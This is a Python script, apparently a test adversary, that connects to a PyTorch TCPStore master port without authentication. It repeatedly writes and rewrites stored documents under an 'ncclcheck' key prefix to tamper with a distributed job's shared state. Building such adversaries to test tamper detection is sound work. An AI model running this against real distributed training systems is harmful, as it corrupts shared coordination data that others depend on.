"""A stranger who reaches the master port and knows the store's protocol, but nothing else: writes what it is told to.

`python attacker.py HOST PORT JSON`: JSON is {"documents": {key: document}, "rewrite": {key: [old, new]},
"seconds": s}. The documents are written as soon as node 0 is there, and again and again. A document under a
key of `rewrite` gets `new` in the place of `old` as soon as it is there.
"""

from __future__ import annotations

import json
import socket
import sys
import time
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

PREFIX = "ncclcheck/1//"
PART_BYTES = 1 << 20


def write(store: Any, key: str, data: bytes) -> None:
    parts = [data[start : start + PART_BYTES] for start in range(0, len(data), PART_BYTES)]
    for number, part in enumerate(parts):
        store.set(f"{PREFIX}{key}/{number}", part)
    store.set(PREFIX + key, str(len(parts)))


def rewrite(store: Any, key: str, old: str, new: str) -> None:
    if not store.check([PREFIX + key]):
        return
    count = int(store.get(PREFIX + key))
    data = b"".join(bytes(store.get(f"{PREFIX}{key}/{number}")) for number in range(count))
    if old.encode() in data:
        write(store, key, data.replace(old.encode(), new.encode()))


def opened(host: str, port: int, until: float) -> Any:
    from torch.distributed import TCPStore

    while time.monotonic() < until:
        with suppress(Exception):
            socket.create_connection((host, port), 0.5).close()
            return TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
        time.sleep(0.02)
    raise TimeoutError("no store")


def main() -> None:
    host, port, task = sys.argv[1], int(sys.argv[2]), json.loads(sys.argv[3])
    import torch.distributed

    assert torch.distributed.TCPStore is not None
    said = Path.home() / "attacker"
    said.write_text("ready")
    until = time.monotonic() + task["seconds"]
    store = opened(host, port, until)
    while not store.check([PREFIX + "serving"]):
        time.sleep(0.005)
    said.write_text("attacks")
    while time.monotonic() < until:
        for key, document in task["documents"].items():
            write(store, key, json.dumps(document).encode())
        for key, (old, new) in task["rewrite"].items():
            rewrite(store, key, old, new)
        time.sleep(0.005 if task["rewrite"] else 0.05)


if __name__ == "__main__":
    with suppress(Exception):  # the run is over
        main()
